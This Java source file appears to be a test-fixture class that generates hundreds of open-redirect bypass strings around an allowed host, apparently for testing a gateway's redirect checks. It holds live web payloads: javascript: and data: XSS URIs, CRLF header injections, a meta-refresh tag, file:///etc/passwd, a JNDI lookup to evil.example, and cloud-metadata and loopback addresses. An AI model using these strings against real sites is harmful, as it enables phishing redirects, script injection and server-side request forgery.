package org.spacesgateway.frontdoor;

import java.nio.charset.StandardCharsets;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.Set;
import java.util.stream.Stream;

/**
 * Strings that make a careless redirect leave: every way known to us in which a browser's reading
 * of an address differs from a naive one, combined with each other.
 */
public final class RedirectStrings {
  /** Where the attacker wants people to go. */
  public static final String EVIL = "evil.example";

  private static final List<String> BEGINNINGS =
      List.of(
          "//",
          "///",
          "////",
          "/\\",
          "\\/",
          "\\\\",
          "/\t/",
          "/\\/",
          "https://",
          "https:",
          "https:/",
          "https:\\\\",
          "https:///",
          "HTTPS://",
          "ht\ttps://",
          " https://",
          "\u0001https://",
          "http://",
          "//\t/",
          "/%09/",
          "/%2f",
          "/%5c",
          "/.//",
          "/..//",
          "/;//",
          "https://user@",
          "https:\n//");

  private static final List<String> ADDRESSES_OF_NO_HOST =
      List.of(
          "javascript:alert(1)",
          "JaVaScRiPt:alert(1)",
          "java\tscript:alert(1)",
          "java\nscript:alert(1)",
          "\u0000javascript:alert(1)",
          "javascript://wordpress.com/%0aalert(1)",
          "javascript:https://wordpress.com/",
          "data:text/html,<script>alert(1)</script>",
          "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
          "vbscript:msgbox(1)",
          "file:///etc/passwd",
          "blob:https://wordpress.com/0",
          "ftp://wordpress.com/",
          "tel:+15555550100",
          "mailto:a@evil.example",
          "view-source:https://wordpress.com/",
          "about:blank",
          "ws://wordpress.com/",
          "?next=//evil.example",
          "#//evil.example",
          ".",
          "..",
          "../../..//evil.example",
          "%0d%0aLocation:%20https://evil.example/",
          "fr\r\nLocation: https://evil.example/",
          "fr\r\nSet-Cookie: crlf=1",
          "fr\r\n\r\n<script>alert(1)</script>",
          "fr\nLocation: https://evil.example/",
          "fr\rLocation: https://evil.example/",
          "fr\u560d\u560aLocation: https://evil.example/",
          "fr\u2028Location: https://evil.example/",
          "fr\u0085Location: https://evil.example/",
          "fr%E5%98%8D%E5%98%8ALocation:evil.example",
          "<script>alert(1)</script>",
          "\"><meta http-equiv=refresh content=0;url=//evil.example>",
          "fr?ref=evil&redirect_to=https://evil.example/",
          "fr#@evil.example/",
          "fr/../..//evil.example/",
          "fr%2f..%2f..%2f%2fevil.example",
          "fr@evil.example",
          "fr.evil.example",
          "fr:evil.example",
          "fr\\evil.example",
          "{registration}",
          "${jndi:ldap://evil.example/a}");

  private RedirectStrings() {}

  /**
   * All of them.
   *
   * @param admitted a host that may be redirected to, in whose shadow the attacker hides
   * @return distinct strings, in a fixed order, well over 300
   */
  public static List<String> around(String admitted) {
    Set<String> strings = new LinkedHashSet<>(ADDRESSES_OF_NO_HOST);
    List<String> authorities = authorities(admitted);
    for (String beginning : BEGINNINGS) {
      for (String authority : authorities) {
        strings.add(beginning + authority);
      }
    }
    for (String authority : authorities) {
      strings.add(authority);
      strings.add("https://" + authority + "/%2e%2e");
      strings.add("https://" + authority + ":443/");
      strings.add("https://" + authority + "?");
    }
    return List.copyOf(strings);
  }

  private static List<String> authorities(String admitted) {
    return Stream.of(
            "evil.example",
            "evil.example/",
            "EVIL.EXAMPLE",
            "evil.example:443",
            "evil.example.",
            "evil%E3%80%82example",
            "evil\u3002example",
            "\uff45vil.example",
            "evil.example#@{good}",
            "evil.example?@{good}",
            "evil.example\\@{good}",
            "evil.example/@{good}",
            "evil.example;@{good}",
            "evil.example%00.{good}",
            "evil.example\u0000.{good}",
            "evil.example%23.{good}",
            "evil.example%2f.{good}",
            "evil.example%5c.{good}",
            "evil.example\u2100.{good}",
            "evil.example\uff0f.{good}",
            "evil.example\u2044.{good}",
            "evil.example&.{good}",
            "evil.example .{good}",
            "evil.example\t.{good}",
            "{good}@evil.example",
            "{good}:80@evil.example",
            "{good}:443@evil.example/{good}",
            "{good}%40evil.example",
            "{good}%00@evil.example",
            "{good}.evil.example",
            "{good}%2eevil.example",
            "{good}evil.example",
            "evil{good}",
            "evil.example/{good}",
            "{good}\\evil.example",
            "{good}\\.evil.example",
            "{good}\\@evil.example",
            "{good}:@evil.example",
            "{good}:evil.example",
            "{good}:0",
            "{good}:99999",
            "{good}.",
            "{good}\u200b",
            "{good}\u3002",
            "{good}\u00ad",
            "xn--{good}",
            "xn--a.{good}",
            "-.{good}",
            "a..{good}",
            "*.{good}",
            "[{good}]",
            "127.0.0.1",
            "127.1",
            "0x7f.1",
            "2130706433",
            "[::1]",
            "[::ffff:127.0.0.1]",
            "169.254.169.254",
            "0")
        .map(authority -> authority.replace("{good}", admitted))
        .toList();
  }

  /** Every byte but the unreserved ones as %XX. */
  public static String encoded(String text) {
    StringBuilder encoded = new StringBuilder(text.length() * 3);
    for (byte one : text.getBytes(StandardCharsets.UTF_8)) {
      char c = (char) (one & 0xff);
      if (c < 0x80 && (Character.isLetterOrDigit(c) || "-._~".indexOf(c) >= 0)) {
        encoded.append(c);
      } else {
        encoded.append('%').append("0123456789ABCDEF".charAt(c >> 4));
        encoded.append("0123456789ABCDEF".charAt(c & 0xf));
      }
    }
    return encoded.toString();
  }
}
